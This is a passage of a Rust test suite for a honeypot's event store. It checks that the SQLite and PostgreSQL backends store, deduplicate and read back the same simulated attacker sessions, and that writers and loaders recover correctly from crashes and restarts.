    // Port 22 on D0: one session on alpha, one on beta (written twice) from the same address.
    assert_eq!(
        row(Scope::Sensor("alpha"), 22, Window::day(D0)),
        (1, 1, 0, 1, 1)
    );
    // Beta's other session there is `names`, from another address to another target.
    assert_eq!(
        row(Scope::Sensor("beta"), 22, Window::day(D0)),
        (2, 2, 0, 2, 2)
    );
    assert_eq!(row(Scope::Fleet, 22, Window::day(D0)), (3, 3, 0, 2, 3));
    let src = r
        .sources(Scope::Fleet, Window::day(D0), Some(22), 10)
        .unwrap();
    assert_eq!(src.len(), 2, "{src:?}");
    assert_eq!(
        (src[0].ip, src[0].records, src[0].top_port),
        (ip("198.51.100.7"), 2, 22)
    );
    // The mapped address and its IPv4 form are one source, on two ports (a tie: the lower).
    let all = r.sources(Scope::Fleet, Window::day(D0), None, 100).unwrap();
    let s = all.iter().find(|s| s.ip == ip("203.0.113.9")).unwrap();
    assert_eq!((s.records, s.ports, s.days, s.top_port), (2, 2, 1, 23));
    // Firewall records: 4 new of 7, counted under their sensor.
    assert_eq!(
        row(Scope::Sensor("fw"), 22, Window::day(D0 + 2)),
        (3, 3, 0, 3, 2)
    );
    assert_eq!(
        row(Scope::Sensor("fw"), 53, Window::day(D0 + 2)),
        (1, 0, 1, 1, 1)
    );
    assert_eq!(
        row(Scope::Sensor("alpha"), 443, Window::day(D0 + 1)),
        (2, 2, 0, 2, 1)
    );
    // The re-written session's login counted again (an event), its record not.
    let creds = r
        .item_counts(
            Scope::Fleet,
            Window::day(D0),
            Some(22),
            kind::CREDENTIAL,
            &[b"root\x00123456".to_vec()],
        )
        .unwrap();
    assert_eq!(creds, vec![3]);
    // Tags in the order first seen, each once, across batches; counted at the close's day.
    let s = r.summary(&h.mapped.hex()).unwrap().unwrap();
    assert_eq!(s.tags, vec!["t1", "t2"]);
    assert_eq!(
        (s.logins, s.commands, s.protocol.as_deref()),
        (1, 1, Some("telnet"))
    );
    assert_eq!(s.src_ip, "::ffff:203.0.113.9");
    assert_eq!(
        r.items(Scope::Fleet, Window::day(D0 + 1), None, kind::TAG, 100)
            .unwrap()
            .iter()
            .filter(|(t, _)| t == b"t1" || t == b"t2")
            .count(),
        2
    );
    assert_eq!(
        r.items(
            Scope::Sensor("alpha"),
            Window::day(D0 + 1),
            Some(23),
            kind::SERVED,
            10
        )
        .unwrap(),
        vec![(b"busybox/same".to_vec(), 1)]
    );
    // Tags stop being added past 1024 characters: 11 of the 12 long ones, not the late one.
    let s = r.summary(&h.tags.hex()).unwrap().unwrap();
    assert_eq!(s.tags.len(), 11, "{:?}", s.tags);
    assert!(s.tags[0].starts_with("00") && s.tags[10].starts_with("10"));
    // The first client name stays; the last classification wins.
    let s = r.summary(&h.names.hex()).unwrap().unwrap();
    assert_eq!(s.client.as_deref(), Some("Ünïcode-Scanner"));
    assert_eq!(
        (
            s.protocol.as_deref(),
            s.client_first,
            s.after_banner.as_deref()
        ),
        (Some("ssh2"), Some(false), Some("silent"))
    );
    let s = r.summary(&h.ssh.hex()).unwrap().unwrap();
    assert_eq!(s.tags, vec!["mirai"]);
    assert_eq!((s.logins, s.logins_ok, s.commands), (3, 1, 2));
    assert_eq!(s.client_version.as_deref(), Some("SSH-2.0-libssh_0.9.6"));
    assert_eq!(s.end, Some(D0 * DAY_MICROS + 10 * HOUR + 106));
    let s = r.summary(&h.tls.hex()).unwrap().unwrap();
    assert_eq!(
        (s.tls, s.served.as_deref(), s.ja4.as_deref()),
        (
            true,
            Some("nginx"),
            Some("t13d0202h2_aaaaaaaaaaaa_bbbbbbbbbbbb")
        )
    );
    // ASCII-only case folding, as SQLite's lower().
    let f = |c: &str| SessionFilter {
        client: Some(c.into()),
        ..Default::default()
    };
    let hand_days = Window {
        since: D0,
        until: D0 + 2,
    };
    let found = |f: &SessionFilter| r.sessions(Scope::Fleet, hand_days, f, 100).unwrap().len();
    assert_eq!(found(&f("LIBSSH")), 1);
    assert_eq!(found(&f("scanner")), 1);
    assert_eq!(found(&f("ÜNÏ")), 0);
    // Ties on the start: the larger id (as a signed number) first.
    let tie = r
        .sessions(
            Scope::Sensor("alpha"),
            Window::day(D0 + 1),
            &SessionFilter {
                port: Some(2323),
                ..Default::default()
            },
            10,
        )
        .unwrap();
    assert_eq!(
        tie.iter().map(|s| s.session.clone()).collect::<Vec<_>>(),
        vec![h.tie_a.hex(), h.tie_b.hex()]
    );
    // Before 1970.
    assert_eq!(
        r.day_range(Scope::Sensor("gamma")).unwrap().map(|d| d.0),
        Some(-1)
    );
    // The orphan's events are not read back; the mapped session's are, in order.
    assert!(r
        .events(&EventFilter {
            session: Some(h.orphan.hex()),
            ..Default::default()
        })
        .unwrap()
        .is_empty());
    let evs = r
        .events(&EventFilter {
            session: Some(h.mapped.hex()),
            oldest_first: true,
            ..Default::default()
        })
        .unwrap();
    let ids: Vec<&str> = evs.iter().map(|e| e.kind.eventid()).collect();
    assert_eq!(
        ids,
        [
            "session.connect",
            "login.failed",
            "command.input",
            "session.classified",
            "rule.match",
            "rule.match",
            "rule.match",
            "session.closed"
        ]
    );
    // The re-written session's connect is stored twice.
    let evs = r
        .events(&EventFilter {
            session: Some(h.shared.hex()),
            ..Default::default()
        })
        .unwrap();
    assert_eq!(evs.len(), 5);
}

/// Where the two renderings first differ, for a readable failure.
fn first_difference(a: &str, b: &str) -> String {
    for (i, (x, y)) in a.lines().zip(b.lines()).enumerate() {
        if x != y {
            return format!("line {}:\n sqlite:   {x}\n postgres: {y}", i + 1);
        }
    }
    format!(
        "lengths differ: {} vs {} lines",
        a.lines().count(),
        b.lines().count()
    )
}

#[test]
fn sqlite_and_postgres_read_back_the_same() {
    let steps = traffic(600);
    let events: usize = steps
        .iter()
        .map(|s| match s {
            Step::Events(b) => b.len(),
            Step::Firewall(..) => 0,
        })
        .sum();

    let dir = tempfile::tempdir().unwrap();
    let sqlite = Location::Sqlite(dir.path().to_path_buf());
    let took_sqlite = write_all(
        &mut *open_writer(&sqlite, WriterOptions::default()).unwrap(),
        &steps,
    );

    let url = pg::shared().fresh_database();
    let postgres = Location::parse(&url).unwrap();
    let took_pg = write_all(
        &mut *open_writer(&postgres, WriterOptions::default()).unwrap(),
        &steps,
    );
    eprintln!(
        "wrote {events} events in {} batches: sqlite {took_sqlite:?}, postgres {took_pg:?}",
        steps.len()
    );

    let (a, b) = (
        open_reader(&sqlite).unwrap(),
        open_reader(&postgres).unwrap(),
    );
    assert!(a.location().ends_with("honeyport.db"), "{}", a.location());
    assert_eq!(b.location(), postgres.display());
    check(&*a);
    check(&*b);
    let started = Instant::now();
    let ra = render(&*a);
    let took_a = started.elapsed();
    let started = Instant::now();
    let rb = render(&*b);
    eprintln!(
        "rendered {} lines, {} bytes: sqlite {took_a:?}, postgres {:?}",
        ra.lines().count(),
        ra.len(),
        started.elapsed()
    );
    if ra != rb {
        let out = std::env::temp_dir();
        std::fs::write(out.join("honeyport-backends-sqlite.txt"), &ra).unwrap();
        std::fs::write(out.join("honeyport-backends-postgres.txt"), &rb).unwrap();
        panic!(
            "the backends differ (both written to {}): {}",
            out.display(),
            first_difference(&ra, &rb)
        );
    }
    // The generated traffic is in there too.
    assert!(ra.contains("198.18.0."), "no generated sessions rendered");
}

/// Sessions of one port and day, each with a few events, for the failure tests.
fn simple_batch(id_base: u64, sessions: u64, port: u16, day: i64) -> Vec<Event> {
    let mut out = Vec::new();
    for i in 0..sessions {
        let s = Sess::new(
            id_base + i,
            "alpha",
            &format!("198.18.{}.{}", i / 250, i % 250),
            "192.0.2.1",
            port,
        );
        let t = day * DAY_MICROS + (i as i64) * 1000;
        out.push(s.ev(t, connect("l", "busybox", false)));
        out.push(s.ev(t + 1, login(b"root", b"root", false)));
        out.push(s.ev(t + 2, cmd(b"enable")));
        out.push(s.ev(t + 3, closed(0.1, 5, 5, EndReason::PeerClosed)));
    }
    out
}

/// Writes `batch`, retrying once (the first try may meet a connection the server dropped).
fn write_retrying(w: &mut dyn Writer, batch: &[Event]) -> bool {
    match w.write(batch) {
        Ok(()) => false,
        Err(e) => {
            let msg = e.to_string();
            assert!(matches!(e, StoreError::Postgres { .. }), "{msg}");
            w.write(batch).unwrap();
            true
        }
    }
}

/// Events, sessions and records of `port` on `day`, as a reader sees them.
fn counts(loc: &Location, port: u16, day: i64) -> (usize, usize, i64) {
    let r = open_reader(loc).unwrap();
    let f = EventFilter {
        port: Some(port),
        ..Default::default()
    };
    let sessions = r
        .sessions(
            Scope::Fleet,
            Window::day(day),
            &SessionFilter {
                port: Some(port),
                ..Default::default()
            },
            usize::MAX,
        )
        .unwrap()
        .len();
    let records = r
        .port_in_window(Scope::Fleet, port, Window::day(day))
        .unwrap()
        .records;
    (r.events(&f).unwrap().len(), sessions, records)
}

/// A writer outlives a restart of its server (the next write connects again), and a batch in
/// flight when the server dies is all there or not at all.
#[test]
fn postgres_writer_survives_restart_and_crash() {
    let mut server = Postgres::start();
    let loc = Location::parse(&server.fresh_database()).unwrap();
    let mut w = open_writer(&loc, WriterOptions::default()).unwrap();
    w.write(&simple_batch(0x100, 10, 22, D0)).unwrap();

    server.restart();
    let retried = write_retrying(&mut *w, &simple_batch(0x200, 10, 22, D0));
    eprintln!(
        "after a restart: first write {}",
        if retried {
            "failed, retried"
        } else {
            "succeeded"
        }
    );
    assert_eq!(counts(&loc, 22, D0), (80, 20, 20));

    // How long a big batch takes, to kill the server in the middle of the next one.
    let big = |base| simple_batch(base, 3000, 23, D0 + 1);
    let started = Instant::now();
    w.write(&big(0x10_000)).unwrap();
    let took = started.elapsed();
    eprintln!("one batch of 12000 events: {took:?}");
    let doomed = big(0x20_000);
    let outcome = std::thread::scope(|s| {
        let writer = s.spawn(|| w.write(&doomed));
        std::thread::sleep(took / 2);
        server.kill();
        writer.join().unwrap()
    });
    server.restart();
    let (events, sessions, records) = counts(&loc, 23, D0 + 1);
    eprintln!("batch in flight at the crash: {outcome:?}; afterwards {events} events, {sessions} sessions");
    assert!(
        [(12_000, 3_000, 3_000), (24_000, 6_000, 6_000)].contains(&(events, sessions, records)),
        "{events} events, {sessions} sessions, {records} records"
    );
    if outcome.is_ok() {
        assert_eq!(events, 24_000);
    } else {
        // The pipeline retries the failed batch: with its identities kept, the retry stores
        // it if the crash came before its COMMIT, and adds nothing if after.
        write_retrying(&mut *w, &doomed);
    }
    assert_eq!(counts(&loc, 23, D0 + 1), (24_000, 6_000, 6_000));
    // And the writer goes on.
    write_retrying(&mut *w, &simple_batch(0x300, 1, 22, D0));
    assert_eq!(counts(&loc, 22, D0), (84, 21, 21));
}

#[test]
fn postgres_reader_needs_the_schema_and_creates_nothing() {
    let server = pg::shared();
    let url = server.fresh_database();
    let loc = Location::parse(&url).unwrap();
    for _ in 0..2 {
        let e = open_reader(&loc).err().unwrap();
        assert!(matches!(e, StoreError::NoSchema(_)), "{e}");
        assert!(
            e.to_string().contains("no honeyport schema in postgres://"),
            "{e}"
        );
    }
    let db = url.rsplit('/').next().unwrap();
    assert_eq!(
        server.psql(db, "SELECT count(*) FROM pg_class WHERE relname = 'meta'"),
        "0"
    );
    // A database that does not exist at all.
    let missing = Location::parse(&server.database_url("no_such_database")).unwrap();
    let e = open_reader(&missing).err().unwrap();
    assert!(matches!(e, StoreError::Missing(_)), "{e}");
    // Someone else's tables are not taken for ours.
    let other = server.fresh_database();
    let other_db = other.rsplit('/').next().unwrap();
    server.psql(other_db, "CREATE TABLE sessions (id int)");
    let e = open_writer(&Location::parse(&other).unwrap(), WriterOptions::default())
        .err()
        .unwrap();
    assert!(e.to_string().contains("not a honeyport store"), "{e}");
    // Once a writer made it, a reader opens.
    drop(open_writer(&loc, WriterOptions::default()).unwrap());
    let r = open_reader(&loc).unwrap();
    assert_eq!(r.day_range(Scope::Fleet).unwrap(), None);
    assert!(r.events(&EventFilter::default()).unwrap().is_empty());
}

#[test]
fn postgres_writers_starting_at_once_do_not_race() {
    let loc = Location::parse(&pg::shared().fresh_database()).unwrap();
    std::thread::scope(|s| {
        let ws: Vec<_> = (0..4)
            .map(|_| s.spawn(|| open_writer(&loc, WriterOptions::default()).map(drop)))
            .collect();
        for w in ws {
            w.join().unwrap().unwrap();
        }
    });
    // Writers at once (sensors sharing a database) upsert the same rollup rows (the same
    // sources, items, and the fleet's rows), and create the same day's partition: no deadlock.
    std::thread::scope(|s| {
        let ws: Vec<_> = (0..4u64)
            .map(|i| {
                let loc = &loc;
                s.spawn(move || -> Result<(), StoreError> {
                    let mut w = open_writer(loc, WriterOptions::default())?;
                    for b in 0..5u64 {
                        w.write(&simple_batch(0x10_000 * (i + 1) + 0x100 * b, 40, 22, D0))?;
                        let recs: Vec<FirewallRecord> = (0..40)
                            .map(|k| {
                                fw(
                                    D0 * DAY_MICROS + k,
                                    false,
                                    "198.51.100.7",
                                    "192.0.2.1",
                                    k as u16,
                                    22,
                                )
                            })
                            .collect();
                        w.write_firewall("fw", &recs)?;
                    }
                    Ok(())
                })
            })
            .collect();
        for w in ws {
            w.join().unwrap().unwrap();
        }
    });
    assert_eq!(counts(&loc, 22, D0), (3200, 800, 840));
}

#[test]
fn postgres_passwords_are_never_shown() {
    let server = pg::shared();
    let url = format!(
        "postgres://postgres:s3cret@127.0.0.1:{}/no_such_database",
        server.port()
    );
    let loc = Location::parse(&url).unwrap();
    assert_eq!(
        loc.display(),
        format!(
            "postgres://postgres:***@127.0.0.1:{}/no_such_database",
            server.port()
        )
    );
    assert!(!format!("{loc:?}").contains("s3cret"), "{loc:?}");
    let e = open_writer(&loc, WriterOptions::default()).err().unwrap();
    let msg = e.to_string();
    assert!(!msg.contains("s3cret"), "{msg}");
    assert!(
        msg.contains("postgres:***@") && msg.contains("does not exist"),
        "{msg}"
    );
    // The server's message is in the error (not only "db error").
    let ok = Location::parse(&server.fresh_database()).unwrap();
    let mut w = open_writer(&ok, WriterOptions::default()).unwrap();
    assert!(w.location().starts_with("postgres://postgres@127.0.0.1:"));
    let mut bad = simple_batch(0x1, 1, 22, D0);
    bad[0].session = SessionId("zz".into());
    assert!(matches!(w.write(&bad), Err(StoreError::BadSession(_))));
    // Unknown schemes and malformed URLs.
    assert!(Location::parse("mysql://u:p@h/db").is_err());
    let e = Location::parse("postgres://u:s3cret@h:notaport/db")
        .err()
        .unwrap();
    assert!(!e.to_string().contains("s3cret"), "{e}");
    assert_eq!(
        Location::parse("postgresql://h/db").unwrap(),
        Location::Postgres("postgresql://h/db".into())
    );
}

/// PostgreSQL's text has no NUL character; a client's bytes with one in a summary column must
/// not fail the batch (again and again, as the pipeline retries it).
#[test]
fn postgres_takes_nul_characters_in_text() {
    let loc = Location::parse(&pg::shared().fresh_database()).unwrap();
    let mut w = open_writer(&loc, WriterOptions::default()).unwrap();
    let s = Sess::new(0x42, "alpha", "198.51.100.1", "192.0.2.1", 22);
    let t = D0 * DAY_MICROS;
    w.write(&[
        s.ev(t, connect("ssh", "openssh", false)),
        s.ev(
            t + 1,
            K::ClientVersion {
                version: pl(b"SSH-2.0-x\x00y"),
            },
        ),
        s.ev(t + 2, client_name("nul\0name", "input")),
        s.ev(t + 3, closed(1.0, 1, 1, EndReason::PeerClosed)),
    ])
    .unwrap();
    let r = open_reader(&loc).unwrap();
    let sum = r.summary(&s.hex()).unwrap().unwrap();
    assert_eq!(sum.client_version.as_deref(), Some("SSH-2.0-x\u{fffd}y"));
    // The events and the rollup items keep the bytes.
    let evs = r
        .events(&EventFilter {
            oldest_first: true,
            ..Default::default()
        })
        .unwrap();
    assert!(matches!(&evs[2].kind, K::ClientName { name, .. } if name == "nul\0name"));
    let items = r
        .items(Scope::Fleet, Window::day(D0), None, kind::VERSION, 10)
        .unwrap();
    assert_eq!(items, vec![(b"SSH-2.0-x\x00y".to_vec(), 1)]);
}

// The fleet: identities, the spool, loading.

/// The database name of a PostgreSQL location.
fn db_of(loc: &Location) -> String {
    match loc {
        Location::Postgres(url) => url.rsplit('/').next().unwrap().to_string(),
        Location::Sqlite(_) => unreachable!("not PostgreSQL"),
    }
}

/// Every stored event's identity, in storage order.
fn identities(loc: &Location, server: &Postgres) -> Vec<EventId> {
    match loc {
        Location::Sqlite(_) => spooled(loc).into_iter().map(|(id, _)| id).collect(),
        Location::Postgres(_) => server
            .psql(
                &db_of(loc),
                "SELECT sensor, run, seq FROM events ORDER BY id",
            )
            .lines()
            .map(|l| {
                let f: Vec<&str> = l.split('|').collect();
                EventId {
                    sensor: f[0].to_string(),
                    run: f[1].parse::<i64>().unwrap() as u64,
                    seq: f[2].parse().unwrap(),
                }
            })
            .collect(),
    }
}

/// Everything a SQLite store spools, with identities, in storage order.
fn spooled(loc: &Location) -> Vec<(EventId, Event)> {
    let mut spool = open_spool(loc).unwrap();
    let mut out = Vec::new();
    let mut pos = 0;
    loop {
        let got = spool.after(pos, 333).unwrap();
        let Some(last) = got.last() else {
            return out;
        };
        pos = last.pos;
        for s in got {
            out.push((s.id, serde_json::from_str(&s.json).unwrap()));
        }
    }
}

/// The traffic's event batches (no firewall records, which are not events; no orphan events,
/// which no reader nor spool shows).
fn event_batches(generated_sessions: u64) -> Vec<Vec<Event>> {
    let orphan = SessionId::from_u64(hand().orphan.id);
    traffic(generated_sessions)
        .into_iter()
        .filter_map(|s| match s {
            Step::Events(b) => Some(b.into_iter().filter(|e| e.session != orphan).collect()),
            Step::Firewall(..) => None,
        })
        .collect()
}

/// A sensor's store: `batches` written by one writer run, in a new temporary directory.
fn sensor_store(batches: &[Vec<Event>]) -> (tempfile::TempDir, Location) {
    let dir = tempfile::tempdir().unwrap();
    let loc = Location::Sqlite(dir.path().to_path_buf());
    let mut w = open_writer(&loc, WriterOptions::default()).unwrap();
    w.begin_run("alpha").unwrap();
    for b in batches {
        w.write(b).unwrap();
    }
    (dir, loc)
}

/// The same heartbeats into any store: so that `sensors` has something to show.
fn heartbeats(l: &mut dyn Loader) {
    for (i, s) in ["alpha", "beta", "gamma", "delta"].iter().enumerate() {
        l.heartbeat(&heartbeat(s, 1_000 + i as i64), 2_000 + i as i64)
            .unwrap();
    }
}

fn heartbeat(sensor: &str, sent: i64) -> Heartbeat {
    Heartbeat {
        sensor: sensor.into(),
        version: "0.test".into(),
        run: 7,
        sent_micros: sent,
        backlog: 3,
        oldest_unacked_secs: 1.5,
        events_per_minute: 60.0,
        dropped: 0,
    }
}

fn assert_same(reference: &str, got: &str, what: &str) {
    if reference != got {
        let out = std::env::temp_dir();
        std::fs::write(out.join("honeyport-fleet-reference.txt"), reference).unwrap();
        std::fs::write(out.join("honeyport-fleet-loaded.txt"), got).unwrap();
        panic!(
            "{what}: differs from the reference (both in {}): {}",
            out.display(),
            first_difference(reference, got)
        );
    }
}

#[test]
fn identities_are_dense_per_run_in_write_order_and_survive_reopen() {
    let dir = tempfile::tempdir().unwrap();
    let server = pg::shared();
    for loc in [
        Location::Sqlite(dir.path().to_path_buf()),
        Location::parse(&server.fresh_database()).unwrap(),
    ] {
        for (k, run) in [(0u64, true), (1, true), (2, false)] {
            let mut w = open_writer(&loc, WriterOptions::default()).unwrap();
            if run {
                w.begin_run("alpha").unwrap();
            }
            w.write(&simple_batch(0x100 + 0x100 * k, 3, 22, D0))
                .unwrap();
            w.write(&simple_batch(0x180 + 0x100 * k, 2, 22, D0))
                .unwrap();
            if run {
                w.end_run(RunTotals::default()).unwrap();
            }
        }
        let ids = identities(&loc, server);
        assert_eq!(ids.len(), 60, "{}", loc.display());
        let runs: Vec<u64> = ids.iter().map(|i| i.run).collect();
        let mut distinct = runs.clone();
        distinct.dedup();
        assert_eq!(
            distinct.len(),
            3,
            "three runs, each contiguous: {distinct:?}"
        );
        assert!(!distinct.contains(&0));
        for chunk in ids.chunks(20) {
            let seqs: Vec<u64> = chunk.iter().map(|i| i.seq).collect();
            assert_eq!(seqs, (1..=20).collect::<Vec<_>>(), "{}", loc.display());
            assert!(chunk
                .iter()
                .all(|i| i.sensor == "alpha" && i.run == chunk[0].run));
        }
        // The sensor runs are kept with their run numbers (the third writer had none).
        let kept: Vec<u64> = match &loc {
            Location::Sqlite(_) => {
                let r = honeyport_store::sqlite::SqliteReader::open(dir.path()).unwrap();
                let mut q = r
                    .connection()
                    .prepare("SELECT run FROM runs ORDER BY id")
                    .unwrap();
                q.query_map([], |r| r.get::<_, i64>(0))
                    .unwrap()
                    .map(|r| r.unwrap() as u64)
                    .collect()
            }
            Location::Postgres(_) => server
                .psql(&db_of(&loc), "SELECT run FROM runs ORDER BY id")
                .lines()
                .map(|l| l.parse::<i64>().unwrap() as u64)
                .collect(),
        };
        assert_eq!(kept, distinct[..2], "{}", loc.display());
    }
}

#[test]
fn spool_reads_after_its_cursor_and_the_cursor_survives_reopen() {
    let batches = event_batches(40);
    let written: Vec<Event> = batches.concat();
    let (dir, loc) = sensor_store(&batches);
    let mut spool = open_spool(&loc).unwrap();
    assert_eq!(spool.cursor("bus").unwrap(), 0);
    let first = spool.after(0, 7).unwrap();
    assert_eq!(first.len(), 7);
    let all = spooled(&loc);
    assert_eq!(all.len(), written.len());
    // The events as written, in order; identities dense from 1.
    for (k, ((id, ev), w)) in all.iter().zip(&written).enumerate() {
        assert_eq!(ev, w, "event {k}");
        assert_eq!(
            (id.sensor.as_str(), id.seq),
            (w.sensor.as_str(), k as u64 + 1)
        );
    }
    let head = spool.backlog(0).unwrap().head;
    assert_eq!(
        spool.backlog(0).unwrap(),
        honeyport_store::Backlog {
            events: written.len() as u64,
            oldest_micros: Some(written[0].timestamp.unix_micros()),
            head,
        }
    );
    let p = first[6].pos;
    assert!(first.windows(2).all(|w| w[0].pos < w[1].pos));
    spool.set_cursor("bus", p).unwrap();
    drop(spool);
    // Reopened (as after a crash: the cursor was committed when set_cursor returned).
    let mut spool = open_spool(&loc).unwrap();
    assert_eq!(spool.cursor("bus").unwrap(), p);
    assert_eq!(spool.cursor("other").unwrap(), 0);
    assert_eq!(spool.backlog(p).unwrap().events, written.len() as u64 - 7);
    assert_eq!(spool.after(p, 1).unwrap()[0].id.seq, 8);
    assert!(spool.after(head, 10).unwrap().is_empty());
    assert_eq!(
        spool.backlog(head).unwrap(),
        honeyport_store::Backlog {
            events: 0,
            oldest_micros: None,
            head
        }
    );
    // Beside a busy writer, cursor writes wait for its lock instead of failing.
    std::thread::scope(|s| {
        let writer = s.spawn(|| {
            let mut w = open_writer(&loc, WriterOptions::default()).unwrap();
            for b in &batches {
                w.write(b).unwrap();
            }
        });
        let mut k = 0;
        while !writer.is_finished() {
            k += 1;
            spool.set_cursor("bus", p + k).unwrap();
            spool.backlog(p).unwrap();
        }
        writer.join().unwrap();
    });
    assert_eq!(spool.backlog(0).unwrap().events, 2 * written.len() as u64);
    drop(dir);
    // Not a spool: PostgreSQL, a missing store.
    let pg_loc = Location::parse(&pg::shared().fresh_database()).unwrap();
    let e = open_spool(&pg_loc).err().unwrap();
    assert!(e.to_string().contains("not a spool"), "{e}");
    let missing = tempfile::tempdir().unwrap();
    let e = open_spool(&Location::Sqlite(missing.path().into()))
        .err()
        .unwrap();
    assert!(matches!(e, StoreError::Missing(_)), "{e}");
}

/// `events` in chunks of varying sizes, with redeliveries (earlier events again) and a
/// duplicate inside some chunks; `shuffle`: the sessions interleaved in another order (each
/// session's events in order).
fn deliveries(events: &[(EventId, Event)], seed: u64, shuffle: bool) -> Vec<Vec<(EventId, Event)>> {
    let mut rng = Lcg(seed);
    let order: Vec<usize> = if shuffle {
        let mut queues: Vec<std::collections::VecDeque<usize>> = Vec::new();
        let mut of: std::collections::HashMap<&SessionId, usize> = Default::default();
        for (k, (_, e)) in events.iter().enumerate() {
            let q = *of.entry(&e.session).or_insert_with(|| {
                queues.push(Default::default());
                queues.len() - 1
            });
            queues[q].push_back(k);
        }
        let mut out = Vec::new();
        while !queues.is_empty() {
            let q = rng.below(queues.len() as u64) as usize;
            for _ in 0..1 + rng.below(3) {
                if let Some(k) = queues[q].pop_front() {
                    out.push(k);
                }
            }
            if queues[q].is_empty() {
                queues.swap_remove(q);
            }
        }
        out
    } else {
        (0..events.len()).collect()
    };
    let mut chunks = Vec::new();
    let mut done = 0;
    while done < order.len() {
        let n = (1 + rng.below(90) as usize).min(order.len() - done);
        let mut chunk: Vec<(EventId, Event)> = order[done..done + n]
            .iter()
            .map(|&k| events[k].clone())
            .collect();
        if done > 0 && rng.below(3) == 0 {
            // Redelivered: some of what came before, again.
            for _ in 0..1 + rng.below(20) {
                let k = order[rng.below(done as u64) as usize];
                chunk.insert(
                    rng.below(chunk.len() as u64 + 1) as usize,
                    events[k].clone(),
                );
            }
        }
        if rng.below(4) == 0 {
            let c = chunk[rng.below(chunk.len() as u64) as usize].clone();
            chunk.push(c);
        }
        done += n;
        chunks.push(chunk);
    }
    chunks
}

/// Loads the chunks; returns the events new and duplicate over all of them.
fn load_all(l: &mut dyn Loader, chunks: &[Vec<(EventId, Event)>]) -> Loaded {
    let mut total = Loaded::default();
    for c in chunks {
        let got = l.load(c).unwrap();
        assert_eq!(got.new + got.duplicate, c.len() as u64);
        total.new += got.new;
        total.duplicate += got.duplicate;
    }
    total
}

/// A collector loading a sensor's spool, in chunks, with redeliveries and duplicates, in order
/// or with the sessions shuffled, gives the reports of the sensor's own store (its events
/// written once by its writer), on either backend; loading everything again adds nothing.
#[test]
fn loading_a_spool_gives_the_reports_of_writing_it_once() {
    let batches = event_batches(300);
    let (_dir, sensor) = sensor_store(&batches);
    heartbeats(&mut *open_loader(&sensor).unwrap());
    let events = spooled(&sensor);
    let n = events.len() as u64;
    let reference = open_reader(&sensor).unwrap();
    let (ordered, unordered) = (render_as(&*reference, true), render_as(&*reference, false));
    assert!(
        ordered.contains("\"events\":"),
        "sensors rendered with counts"
    );
    for shuffle in [false, true] {
        let sq = tempfile::tempdir().unwrap();
        for loc in [
            Location::Sqlite(sq.path().to_path_buf()),
            Location::parse(&pg::shared().fresh_database()).unwrap(),
        ] {
            let what = format!("{} (shuffled: {shuffle})", loc.display());
            let mut l = open_loader(&loc).unwrap();
            let chunks = deliveries(&events, 5, shuffle);
            let total = load_all(&mut *l, &chunks);
            assert_eq!(total.new, n, "{what}");
            assert!(total.duplicate > 0, "{what}: the deliveries had duplicates");
            // Everything again, in one batch: nothing new.
            assert_eq!(
                l.load(&events).unwrap(),
                Loaded {
                    new: 0,
                    duplicate: n
                },
                "{what}"
            );
            heartbeats(&mut *l);
            let r = open_reader(&loc).unwrap();
            if shuffle {
                assert_same(&unordered, &render_as(&*r, false), &what);
            } else {
                assert_same(&ordered, &render(&*r), &what);
            }
        }
    }
}

/// Collectors loading overlapping batches into one PostgreSQL database at once add each event
/// exactly once, without deadlock.
#[test]
fn postgres_collectors_loading_at_once_add_each_event_once() {
    let batches = event_batches(300);
    let (_dir, sensor) = sensor_store(&batches);
    let events = spooled(&sensor);
    let loc = Location::parse(&pg::shared().fresh_database()).unwrap();
    let news: Vec<u64> = std::thread::scope(|s| {
        let ws: Vec<_> = (0..3u64)
            .map(|i| {
                let (loc, events) = (&loc, &events);
                s.spawn(move || {
                    let mut l = open_loader(loc).unwrap();
                    // Each its own chunking (and its own redeliveries) of everything.
                    load_all(&mut *l, &deliveries(events, 11 + i, false)).new
                })
            })
            .collect();
        ws.into_iter().map(|w| w.join().unwrap()).collect()
    });
    assert_eq!(news.iter().sum::<u64>(), events.len() as u64, "{news:?}");
    let reference = open_reader(&sensor).unwrap();
    let r = open_reader(&loc).unwrap();
    assert_same(
        &render_as(&*reference, false),
        &render_as(&*r, false),
        "three collectors at once",
    );
}

/// A load in flight when PostgreSQL dies, retried after the restart (the bus redelivers what
/// was not acknowledged), gives the store exactly what one load would have; so does a
/// writer's batch.
#[test]
fn postgres_load_spanning_a_restart_is_exact_after_its_retry() {
    let mut server = Postgres::start();
    let loc = Location::parse(&server.fresh_database()).unwrap();
    let batches = [
        simple_batch(0x1_0000, 100, 22, D0),
        simple_batch(0x2_0000, 3000, 23, D0 + 1),
        simple_batch(0x3_0000, 3000, 23, D0 + 1),
        simple_batch(0x4_0000, 10, 22, D0),
    ];
    let (_dir, sensor) = sensor_store(&batches);
    let events = spooled(&sensor);
    let parts: Vec<&[(EventId, Event)]> = {
        let (a, rest) = events.split_at(400);
        let (b, rest) = rest.split_at(12_000);
        let (c, d) = rest.split_at(12_000);
        vec![a, b, c, d]
    };
    let mut l = open_loader(&loc).unwrap();
    l.load(parts[0]).unwrap();
    let started = Instant::now();
    l.load(parts[1]).unwrap();
    let took = started.elapsed();
    let outcome = std::thread::scope(|s| {
        let loader = s.spawn(|| l.load(parts[2]));
        std::thread::sleep(took / 2);
        server.kill();
        loader.join().unwrap()
    });
    eprintln!("load in flight at the crash: {outcome:?}");
    server.restart();
    // Redelivered (whatever the outcome: an acknowledgement may have been lost too).
    let mut retried = None;
    for _ in 0..3 {
        match l.load(parts[2]) {
            Ok(got) => {
                retried = Some(got);
                break;
            }
            Err(e) => assert!(matches!(e, StoreError::Postgres { .. }), "{e}"),
        }
    }
    let retried = retried.expect("the retry loads");
    assert_eq!(retried.new + retried.duplicate, 12_000);
    if outcome.is_ok() {
        assert_eq!(retried.new, 0);
    }
    l.load(parts[3]).unwrap();
    let reference = open_reader(&sensor).unwrap();
    assert_same(
        &render(&*reference),
        &render(&*open_reader(&loc).unwrap()),
        "a load across a restart",
    );
}

#[test]
fn heartbeats_sensors_and_parked_messages_round_trip() {
    let sq = tempfile::tempdir().unwrap();
    let server = pg::shared();
    for loc in [
        Location::Sqlite(sq.path().to_path_buf()),
        Location::parse(&server.fresh_database()).unwrap(),
    ] {
        let what = loc.display();
        let mut l = open_loader(&loc).unwrap();
        let evs = simple_batch(0x500, 2, 22, D0);
        let last_ts = evs.last().unwrap().timestamp.unix_micros();
        let batch: Vec<(EventId, Event)> = evs
            .into_iter()
            .zip(1..)
            .map(|(e, seq)| {
